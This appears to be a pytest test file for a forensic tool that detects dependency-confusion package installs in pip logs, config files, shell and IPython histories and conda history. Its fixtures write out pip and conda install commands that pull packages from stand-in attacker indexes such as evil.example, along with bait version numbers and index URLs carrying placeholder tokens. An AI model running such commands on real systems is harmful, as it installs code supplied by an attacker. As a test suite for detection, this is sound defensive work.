"""Provenance and index confusion: pip logs written by a real `pip install --log`, direct_url.json
written by pip, pip.conf, shell rc files, histories, requirements files, conda channels."""

from __future__ import annotations

import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pkg_hosts as hosts
from mlsleuth.parsers.packages.cli import render
from mlsleuth.parsers.packages.confusion import is_bait_version
from test_pkg_integrity import analyze, rules

from mlsleuth.redact import fingerprint

SECRET = "s3cr3t-t0ken-value"
FP = fingerprint(SECRET)


def _indexes(tmp_path: Path, wheels: Path) -> tuple[str, str]:
    primary = hosts.make_index(tmp_path / "primary", wheels, ["alpha"])
    extra = hosts.make_index(tmp_path / "extra", wheels, ["evilpkg", "evilplugin"])
    return primary, extra


def test_install_from_extra_index_via_pip_log_and_direct_url(host: Path, venv: Path, wheels: Path,
                                                             tmp_path: Path) -> None:
    primary, extra = _indexes(tmp_path, wheels)
    conf = host / "home/alice/.config/pip/pip.conf"
    conf.parent.mkdir(parents=True)
    conf.write_text(f"[global]\nindex-url = {primary}\nextra-index-url =\n    {extra}\n"
                    f"    https://alice:{SECRET}@pkgs.evil.example/simple\n")
    log = host / "home/alice/.pip/pip.log"
    log.parent.mkdir(parents=True)
    hosts.pip_install(venv, "--index-url", primary, "--extra-index-url", extra, "--log", str(log), "evilpkg")
    plugin_whl = next((tmp_path / "extra/evilplugin").glob("*.whl"))
    hosts.pip_install(venv, "--no-index", plugin_whl.as_uri())

    report = analyze(host)
    assert rules(report) == [
        ("confusion.bait_version", "evilpkg", "evilpkg-99.0.0.dist-info"),
        ("confusion.extra_index_source", "evilpkg", "evilpkg-99.0.0.dist-info"),
        ("confusion.extra_index_source", "evilplugin", "evilplugin-1.0.dist-info"),
    ]
    by_pkg = {e.package: e for e in report.findings if e.extra["rule"] == "confusion.extra_index_source"}
    from_log = by_pkg["evilpkg"]
    log_lines = log.read_text().splitlines()
    n = int(from_log.evidence.rsplit("#L", 1)[1])
    assert from_log.evidence.startswith(str(log)) and "evilpkg-99.0.0-py3-none-any.whl" in log_lines[n - 1]
    assert from_log.index_url == extra.rstrip("/")
    assert from_log.extra["source_url"].endswith("/extra/evilpkg/evilpkg-99.0.0-py3-none-any.whl")
    assert from_log.timestamp_quality == "exact"
    assert abs((from_log.timestamp - datetime.fromtimestamp(log.stat().st_mtime, UTC)).total_seconds()) < 60
    from_direct = by_pkg["evilplugin"]
    assert from_direct.evidence.endswith("evilplugin-1.0.dist-info/direct_url.json")
    row = {r.name: r for r in report.rows}["evilplugin"]
    assert row.source.startswith("archive file://") and row.flags == ["extra_index_source"]

    configs = [e for e in report.events if e.category == "config"]
    conf_urls = {e.index_url for e in configs if e.extra.get("origin") == "pip.conf"}
    assert conf_urls == {primary, extra, f"https://alice:{FP}@pkgs.evil.example/simple"}
    cred = next(e for e in configs if e.index_url == f"https://alice:{FP}@pkgs.evil.example/simple")
    assert cred.extra["credential"] == FP and cred.extra["scope"] == "user:alice"
    assert cred.evidence.endswith("pip.conf#L5") and cred.user == "alice"
    logged = [e for e in configs if e.extra.get("rule") == "provenance.pip_log"]
    assert [e.package for e in logged] == ["evilpkg"]
    for fmt in ("text", "json", "csv"):
        assert SECRET not in render(report, fmt)


def test_history_rc_requirements_and_project_settings(host: Path, sp: Path) -> None:
    gamma_time = (sp / "gamma-1.0.dist-info/RECORD").stat().st_mtime
    home = host / "home/alice"
    (home / ".bash_history").write_text(
        "ls\n"
        f"#{int(gamma_time) - 30}\n"
        f"pip install --extra-index-url https://tok:{SECRET}@pkgs.internal.example/simple gamma\n"
        "#1700000100\nexport PIP_INDEX_URL=https://mirror.example/simple\n")
    (home / ".zsh_history").write_text(": 1700000200:0;uv pip install --index https://uv.example/simple foo\n")
    fish = home / ".local/share/fish/fish_history"
    fish.parent.mkdir(parents=True)
    fish.write_text("- cmd: conda install -c evil-channel numpy\n  when: 1700000300\n")
    (home / ".bashrc").write_text("# pip\nexport PIP_EXTRA_INDEX_URL='https://rc.example/simple'\n")
    proj = home / "proj"
    proj.mkdir()
    (proj / "requirements.txt").write_text("--extra-index-url https://req.example/simple\nrequests==2.0\n")
    (proj / "pyproject.toml").write_text('[project]\nname="p"\n[[tool.uv.index]]\nurl = "https://uvproj.example/simple"\n'
                                         '[[tool.poetry.source]]\nname="x"\nurl="https://poetry.example/simple"\n'
                                         'priority="supplemental"\n')
    (home / ".condarc").write_text("channels:\n  - conda-forge\n  - https://conda.evil.example/chan\n")
    report = analyze(host)
    settings = {(e.extra["origin"], e.extra["kind"], e.index_url): e for e in report.events
                if e.extra.get("rule") == "provenance.index_setting"}
    assert set(settings) >= {
        ("history", "extra-index", f"https://tok:{FP}@pkgs.internal.example/simple"),
        ("history", "index", "https://mirror.example/simple"),
        ("history", "extra-index", "https://uv.example/simple"),
        ("history", "channel", "evil-channel"),
        ("shell-rc", "extra-index", "https://rc.example/simple"),
        ("requirements", "extra-index", "https://req.example/simple"),
        ("project", "extra-index", "https://uvproj.example/simple"),
        ("project", "extra-index", "https://poetry.example/simple"),
        ("condarc", "channel", "conda-forge"),
        ("condarc", "channel", "https://conda.evil.example/chan"),
    }
    hist = settings[("history", "extra-index", f"https://tok:{FP}@pkgs.internal.example/simple")]
    assert hist.evidence.endswith(".bash_history#L3") and hist.timestamp_desc == "Command Executed"
    assert hist.timestamp.timestamp() == int(gamma_time) - 30 and hist.timestamp_quality == "exact"
    assert hist.extra["packages"] == ["gamma"]
    assert settings[("shell-rc", "extra-index", "https://rc.example/simple")].evidence.endswith(".bashrc#L2")
    # gamma was installed right after the command that named it with an extra index; the rc
    # file's setting is newer than every install and explains none.
    assert rules(report) == [("confusion.installed_while_extra_index", "gamma", "gamma-1.0.dist-info")]
    assert report.findings[0].extra["settings"][0]["evidence"].endswith(".bash_history#L3")
    assert SECRET not in render(report, "json")


def test_ipython_history_pip_magic(host: Path) -> None:
    db_path = host / "home/alice/.ipython/profile_default/history.sqlite"
    db_path.parent.mkdir(parents=True)
    con = sqlite3.connect(db_path)
    con.executescript("""
        CREATE TABLE sessions (session integer primary key autoincrement, start timestamp, end timestamp,
                               num_cmds integer, remark text);
        CREATE TABLE history (session integer, line integer, source text, source_raw text,
                              PRIMARY KEY (session, line));
        CREATE TABLE output_history (session integer, line integer, output text, PRIMARY KEY (session, line));
    """)
    con.execute("INSERT INTO sessions VALUES (1, '2024-05-01 09:00:00.000000', NULL, NULL, '')")
    con.execute("INSERT INTO history VALUES (1, 1, 'x', '%pip install -i https://ipy.example/simple torchtriton')")
    con.commit()
    con.close()
    report = analyze(host)
    ev = next(e for e in report.events if e.extra.get("origin") == "ipython")
    assert ev.index_url == "https://ipy.example/simple" and ev.extra["kind"] == "index"
    assert ev.evidence.endswith("history.sqlite#history:session=1,line=1")
    assert ev.timestamp == datetime(2024, 5, 1, 9, 0, tzinfo=UTC)


def test_unrequested_package_nobody_depends_on(host: Path, venv: Path) -> None:
    hosts.pip("--isolated", "--python", hosts.venv_python(venv), "uninstall", "-y", "-q", "alpha")
    report = analyze(host)
    assert rules(report) == [("confusion.unrequested_orphan", "beta", "beta-2.0.dist-info")]
    assert report.findings[0].extra["severity"] == "low"


def test_conda_history_channels(host: Path) -> None:
    prefix = host / "opt/conda"
    hosts.write_conda_package(prefix, "zlib", "1.3", "h0_0", {"lib/libz.so.1": b"z"})
    hosts.write_conda_history(prefix, [("2024-03-01 10:00:00", "conda install -c https://evil.example/chan zlib",
                                        ["+evil::zlib-1.3-h0_0"])])
    report = analyze(host)
    ev = next(e for e in report.events if e.extra.get("origin") == "conda-history")
    assert ev.index_url == "https://evil.example/chan" and ev.evidence.endswith("conda-meta/history#L2")
    assert ev.timestamp == datetime(2024, 3, 1, 10, 0, tzinfo=UTC)


def test_bait_versions() -> None:
    assert is_bait_version("99.0.0") and is_bait_version("1337.0") and is_bait_version("9000.1")
    assert not is_bait_version("2024.1") and not is_bait_version("20231228") and not is_bait_version("3.2")
    assert not is_bait_version("65.5.0") and not is_bait_version("not-a-version")


def test_pip_log_parser_sessions_and_requested(tmp_path: Path) -> None:
    from mlsleuth.parsers.packages.piplog import parse_pip_log

    text = "\n".join([
        "2024-01-02T10:00:00,100 Using pip 24.0 from /x (python 3.11)",
        "2024-01-02T10:00:00,200 Looking in indexes: https://pypi.org/simple, https://u:pw@evil.example/simple",
        "2024-01-02T10:00:01,000 Collecting torchtriton",
        "2024-01-02T10:00:01,500   Found link https://evil.example/files/torchtriton-3.0.0-py3-none-any.whl#sha256=ab "
        "(from https://evil.example/simple/torchtriton/) (requires-python:>=3.8), version: 3.0.0",
        "2024-01-02T10:00:02,000   Downloading https://evil.example/files/torchtriton-3.0.0-py3-none-any.whl (1.0 kB)",
        "2024-01-02T10:00:02,100 Collecting six (from torchtriton)",
        "2024-01-02T10:00:02,200   Downloading six-1.16.0-py2.py3-none-any.whl (11 kB)",
        "2024-01-02T10:00:03,000 Successfully installed six-1.16.0 torchtriton-3.0.0",
    ])
    log = parse_pip_log(text, None)
    inst = {i.name: i for i in log.installs}
    assert inst["torchtriton"].index == f"https://u:{fingerprint('pw')}@evil.example/simple"
    assert inst["torchtriton"].source_url == "https://evil.example/files/torchtriton-3.0.0-py3-none-any.whl"
    assert inst["torchtriton"].requested is True and inst["six"].requested is False
    assert inst["torchtriton"].when == datetime(2024, 1, 2, 10, 0, 3, tzinfo=UTC)
    assert inst["torchtriton"].quality == "estimated"  # no host timezone known
    assert log.index_lines[0].indexes[1] == f"https://u:{fingerprint('pw')}@evil.example/simple"
